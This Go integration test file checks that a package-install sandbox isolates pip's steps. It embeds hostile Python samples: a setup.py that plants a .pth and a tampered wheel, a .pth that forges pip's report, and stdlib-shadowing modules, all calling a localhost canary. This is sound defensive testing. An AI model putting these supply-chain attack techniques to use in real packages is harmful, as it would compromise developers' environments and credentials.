package integration

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// pip's steps are isolated from each other's writes (issue 14): the resolve step,
// where an sdist's metadata hook runs, leaves nothing a later step reads; the
// download step runs phylum-box's own fetch program under the system python,
// isolated, and fetches only what the configured index lists for a checked name
// and version, by the index's hash.

// pipPlantSetupPy is an sdist's setup.py that, while its metadata is built in the
// resolve step (the egress proxy is set only there), plants a .pth in the
// project's venv, a wheel of the already-checked pbox-dep 1.0 with other bytes in
// the download dir.
const pipPlantSetupPy = `import glob, json, os, sys, zipfile
from setuptools import setup

PROJECT = "@PROJECT@"
CANARY = @CANARY_PORT@
if os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy"):
    for site in glob.glob(os.path.join(PROJECT, ".venv", "lib", "python3*", "site-packages")):
        try:
            with open(os.path.join(site, "pbox_planted.pth"), "w") as f:
                f.write("import socket; socket.create_connection(('127.0.0.1', %d), timeout=2).sendall(b'PLANTED-PTH')\n" % CANARY)
        except OSError:
            pass
    try:
        dist = os.path.join(PROJECT, ".phylum-box-pip", "dist")
        os.makedirs(dist, exist_ok=True)
        with zipfile.ZipFile(os.path.join(dist, "pbox_dep-1.0-py3-none-any.whl"), "w") as z:
            z.writestr("pbox_dep/__init__.py", "VALUE = 'planted'\n")
            z.writestr("pbox_dep-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pbox-dep\nVersion: 1.0\n")
            z.writestr("pbox_dep-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            z.writestr("pbox_dep-1.0.dist-info/RECORD", "")
    except OSError:
        pass

setup(name="pbox-plant", version="1.0", py_modules=[], install_requires=["pbox-dep>=1.0"])
`

func pipPlantSdist(t *testing.T, ix *pyIndex, b *box, canary *regCanary) {
	t.Helper()
	setupPy := strings.NewReplacer("@PROJECT@", b.Project, "@CANARY_PORT@", strconv.Itoa(canary.Port)).Replace(pipPlantSetupPy)
	ix.AddSdist("pbox-plant", "1.0", map[string]string{"setup.py": setupPy})
}

func pipWantCanarySilent(t *testing.T, canary *regCanary, r result) {
	t.Helper()
	for _, got := range canary.Got() {
		t.Errorf("the 127.0.0.1 listener was reached: %q\n%s", got, r)
	}
}

func pipVenvImport(t *testing.T, b *box, code string) string {
	t.Helper()
	out, err := exec.Command(filepath.Join(b.Project, ".venv", "bin", "python"), "-c", code).CombinedOutput()
	if err != nil {
		t.Errorf("%s: %v %s", code, err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestPipIsolationResolveLeavesNothing: an sdist whose metadata hook plants a .pth
// in the venv and a wheel in the download dir while pip resolves. The install
// works and gets only the index's bytes: the .pth is not in the synced venv, the
// planted pbox-dep is not what was installed, the listener hears nothing.
func TestPipIsolationResolveLeavesNothing(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		pipPlantSdist(t, ix, b, canary)
		r := b.pip(ix, db, "install", "pbox-plant")
		wantCode(t, r, 0, "pip install of an sdist that plants files while resolving")
		site := sitePackages(t, filepath.Join(b.Project, ".venv"))
		if pathExists(filepath.Join(site, "pbox_planted.pth")) {
			t.Errorf("the .pth the metadata hook planted while resolving reached the project's venv\n%s", r)
		}
		if got := pipVenvImport(t, b, "import pbox_dep; print(pbox_dep.VALUE)"); got != "dep" {
			t.Errorf("pbox-dep is not the index's (the planted wheel was installed?): %q\n%s", got, r)
		}
		if m, _ := filepath.Glob(filepath.Join(site, "pbox_plant-1.0*-info")); len(m) == 0 {
			t.Errorf("pbox-plant was not installed\n%s", r)
		}
		if pathExists(filepath.Join(b.Project, ".phylum-box-pip")) {
			t.Error("the download dir was synced back into the project")
		}
		pipWantCanarySilent(t, canary, r)
	})
}

// pipForgePth is a .pth that, in pip's resolve (the only step that asks for a
// report), prints a forged report first: the checked pbox-dep 1.0 from a
// 127.0.0.1 server, with a made-up hash.
const pipForgePth = `import sys; exec("if '--report' in sys.argv:\n import json\n sys.stdout.write(json.dumps({'version': '1', 'install': [{'metadata': {'name': 'pbox-dep', 'version': '1.0'}, 'is_direct': False, 'download_info': {'url': 'http://127.0.0.1:@CANARY_PORT@/files/pbox_dep-1.0-py3-none-any.whl', 'archive_info': {'hashes': {'sha256': '0' * 64}}}}]}) + '\\n')\n sys.stdout.flush()")
`

// TestPipIsolationForgedReportBlocked: code running in the resolve step (here a
// .pth the project committed into its venv) prints a forged report. Its URL is not
// what the index lists for pbox-dep: exit 3 naming the package and URL, nothing
// installed, and the server (which would also have got the index credentials of
// the user's pip.conf) hears nothing. The twin without the .pth installs.
func TestPipIsolationForgedReportBlocked(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		writeFile(t, filepath.Join(b.Home, ".config", "pip", "pip.conf"), "[global]\nextra-index-url = http://pbox:"+b.Mark+"@127.0.0.1:"+strconv.Itoa(ix.Port)+"/simple/\n", 0o600)
		chownTree(t, m, b.Home)
		forge := filepath.Join(sitePackages(t, filepath.Join(b.Project, ".venv")), "pbox_forge.pth")
		writeFile(t, forge, strings.ReplaceAll(pipForgePth, "@CANARY_PORT@", strconv.Itoa(canary.Port)), 0o644)
		chownTree(t, m, b.Project)
		before := treeHash(t, b.Project, true)
		r := b.pip(ix, db, "install", "pbox-greet")
		wantCode(t, r, 3, "a forged report naming another server must block")
		wantStderr(t, r, "pbox-dep", "127.0.0.1:"+strconv.Itoa(canary.Port))
		pipWantCanarySilent(t, canary, r)
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")

		if err := os.Remove(forge); err != nil {
			t.Fatal(err)
		}
		r = b.pip(ix, db, "install", "pbox-greet")
		wantCode(t, r, 0, "the same install without the forging .pth, the user's index credentials in use")
		if got := pipVenvImport(t, b, "import pbox_greet; print(pbox_greet.GREETING)"); got != "hello dep" {
			t.Errorf("the installed package does not import: %q", got)
		}
		pipWantCanarySilent(t, canary, r)
	})
}

// TestPipIsolationCommittedPthNeverOnline: a project committing a .pth into its
// venv that would report to a 127.0.0.1 listener. The download step, which has
// the host's network, runs the system python without site processing; the steps
// that run the venv's python have no way to the host's loopback. The install of
// the same project works.
func TestPipIsolationCommittedPthNeverOnline(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		site := sitePackages(t, filepath.Join(b.Project, ".venv"))
		writeFile(t, filepath.Join(site, "pbox_committed.pth"),
			"import sys; exec(\"try:\\n import socket; socket.create_connection(('127.0.0.1', "+strconv.Itoa(canary.Port)+"), timeout=2).sendall(('COMMITTED-PTH ' + ' '.join(sys.argv)).encode())\\nexcept Exception: pass\")\n", 0o644)
		chownTree(t, m, b.Project)
		r := b.pip(ix, db, "install", "pbox-greet")
		wantCode(t, r, 0, "pip install in a venv with a committed .pth")
		pipWantCanarySilent(t, canary, r)
		if got := pipVenvImport(t, b, "import pbox_greet; print(pbox_greet.GREETING)"); got != "hello dep" {
			t.Errorf("the installed package does not import: %q", got)
		}
	})
}

// pipShadowModule is a project file named like a standard-library module: imported,
// it reports to the listener and then stands aside for the real module.
const pipShadowModule = `import os, sys
try:
    import socket
    socket.create_connection(("127.0.0.1", @CANARY_PORT@), timeout=2).sendall(("SHADOW @NAME@ " + " ".join(sys.argv)).encode())
except Exception:
    pass
_here = os.path.dirname(os.path.abspath(__file__))
del sys.modules[__name__]
_path = sys.path
sys.path = [p for p in _path if os.path.abspath(p or ".") != _here]
try:
    import importlib
    _real = importlib.import_module(__name__)
finally:
    sys.path = _path
sys.modules[__name__] = _real
`

// TestPipIsolationProjectShadowsStdlib: base64.py and json.py in the project root
// are imported by no step (the fetch program runs from / with -I -S; pip runs with
// -I), and the install works.
func TestPipIsolationProjectShadowsStdlib(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		for _, name := range []string{"base64", "json"} {
			src := strings.NewReplacer("@CANARY_PORT@", strconv.Itoa(canary.Port), "@NAME@", name).Replace(pipShadowModule)
			writeFile(t, filepath.Join(b.Project, name+".py"), src, 0o644)
		}
		chownTree(t, m, b.Project)
		r := b.pip(ix, db, "install", "pbox-greet")
		wantCode(t, r, 0, "pip install with base64.py and json.py in the project")
		pipWantCanarySilent(t, canary, r)
		if got := pipVenvImport(t, b, "import pbox_greet; print(pbox_greet.GREETING)"); got != "hello dep" {
			t.Errorf("the installed package does not import: %q", got)
		}
	})
}

// pyenvInterpreter builds a pyenv-style installation under the box's $HOME (a
// copy of the system python3 at ~/.pyenv/versions/3.11-pbox, its standard library
// linked from /usr) and returns its python3.
func pyenvInterpreter(t *testing.T, b *box, rel string) string {
	t.Helper()
	real, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Fatal(err)
	}
	ver := filepath.Base(real) // python3.11
	inst := filepath.Join(b.Home, rel)
	data, err := os.ReadFile(real)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(inst, "bin", ver), string(data), 0o755)
	if err := os.Symlink(ver, filepath.Join(inst, "bin", "python3")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(inst, "lib"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join("/usr/lib", ver), filepath.Join(inst, "lib", ver)); err != nil {
		t.Fatal(err)
	}
	chownTree(t, b.Mode, b.Home)
	return filepath.Join(inst, "bin", "python3")
}

// TestPipVenvFromHomeInterpreter: a venv made by a pyenv python under $HOME works
// (that installation is bound read-only, nothing else of $HOME); a venv whose
// interpreter is elsewhere in $HOME is refused, naming it.
func TestPipVenvFromHomeInterpreter(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		db := regMalDB(t, m, "PyPI")
		b := regNewBox(t, m)
		py := pyenvInterpreter(t, b, ".pyenv/versions/3.11-pbox")
		hostSh(t, m, b.Project, py+" -m venv .venv")
		writeFile(t, filepath.Join(b.Project, "requirements.txt"), "pbox-greet\n", 0o644)
		chownTree(t, m, b.Project)
		rep := filepath.Join(b.Home, "pyenv-report.json")
		r := invocation{Mode: b.Mode, Args: []string{"--report", rep, "pip", "install", "-r", "requirements.txt"}, Dir: b.Project, Home: b.Home,
			Env:     []string{"PIP_INDEX_URL=" + ix.URL + "/simple/", "PHYLUM_BOX_DB=" + db, "PIP_DISABLE_PIP_VERSION_CHECK=1"},
			Timeout: 4 * time.Minute}.exec(t)
		wantCode(t, r, 0, "pip install -r in a venv made by a pyenv python under $HOME")
		// The report lists that installation, and nothing else of $HOME, as seen read-only.
		var out struct {
			HostPaths []string `json:"host_paths_read_only"`
		}
		if data, err := os.ReadFile(rep); err != nil || json.Unmarshal(data, &out) != nil {
			t.Fatalf("reading the report %s: %v", rep, err)
		}
		want := filepath.Join(b.Home, ".pyenv", "versions", "3.11-pbox")
		if !slices.Contains(out.HostPaths, want) {
			t.Errorf("the report does not list the interpreter's installation %s as seen read-only: %q", want, out.HostPaths)
		}
		for _, p := range out.HostPaths {
			if p == b.Home || (strings.HasPrefix(p, b.Home+"/") && p != want) {
				t.Errorf("the report lists more of $HOME than the interpreter's installation: %q", out.HostPaths)
			}
		}
		if got := pipVenvImport(t, b, "import pbox_greet; print(pbox_greet.GREETING)"); got != "hello dep" {
			t.Errorf("the installed package does not import: %q\n%s", got, r)
		}
		if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
			t.Errorf("a secret of $HOME reached the output\n%s", r)
		}
		// The project itself, editable, in the same venv: pip install -e . of a
		// src-layout setuptools project.
		writeFile(t, filepath.Join(b.Project, "pyproject.toml"), "[build-system]\nrequires = [\"setuptools>=40.8.0\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"pbox-homesrc\"\nversion = \"0.1\"\ndependencies = [\"pbox-dep\"]\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "src", "pbox_homesrc", "__init__.py"), "from pbox_dep import VALUE\nHELLO = 'home ' + VALUE\n", 0o644)
		chownTree(t, m, b.Project)
		r = b.pip(ix, db, "install", "-e", ".")
		wantCode(t, r, 0, "pip install -e . in a venv made by a pyenv python under $HOME")
		if got := pipVenvImport(t, b, "import pbox_homesrc; print(pbox_homesrc.HELLO)"); got != "home dep" {
			t.Errorf("the editable install does not import: %q\n%s", got, r)
		}

		odd := pyenvInterpreter(t, b, "tools/python")
		hostSh(t, m, b.Project, "rm -rf .venv && "+odd+" -m venv .venv")
		r = b.pip(ix, db, "install", "-r", "requirements.txt")
		wantCode(t, r, 2, "a venv interpreter elsewhere under $HOME")
		wantStderr(t, r, filepath.Join(b.Home, "tools", "python", "bin"), "pyenv")
	})
}

// TestPipEditableSrcLayout: `pip install -e .` of a src-layout setuptools project
// exits 0 and the project is importable from the venv.
func TestPipEditableSrcLayout(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		writeFile(t, filepath.Join(b.Project, "pyproject.toml"), "[build-system]\nrequires = [\"setuptools>=40.8.0\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"pbox-srcpkg\"\nversion = \"0.1\"\ndependencies = [\"pbox-dep\"]\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "src", "pbox_srcpkg", "__init__.py"), "from pbox_dep import VALUE\nHELLO = 'src ' + VALUE\n", 0o644)
		chownTree(t, m, b.Project)
		r := b.pip(ix, db, "install", "-e", ".")
		wantCode(t, r, 0, "pip install -e . (src layout)")
		if got := pipVenvImport(t, b, "import pbox_srcpkg; print(pbox_srcpkg.HELLO)"); got != "src dep" {
			t.Errorf("the editable install does not import: %q\n%s", got, r)
		}
		if strings.Contains(r.Stderr, "refused") {
			t.Errorf("a normal editable install had writes refused\n%s", r)
		}
		if !pathExists(filepath.Join(b.Project, "src", "pbox_srcpkg.egg-info", "PKG-INFO")) {
			t.Errorf("setuptools' egg-info (a legacy editable install's metadata) was not synced\n%s", r)
		}
		// A regular install of the same project: its new build/ is left out.
		r = b.pip(ix, db, "install", ".")
		wantCode(t, r, 0, "pip install . (src layout)")
		if pathExists(filepath.Join(b.Project, "build")) || strings.Contains(r.Stderr, "refused") {
			t.Errorf("pip install . left build/ or had writes refused\n%s", r)
		}
	})
}
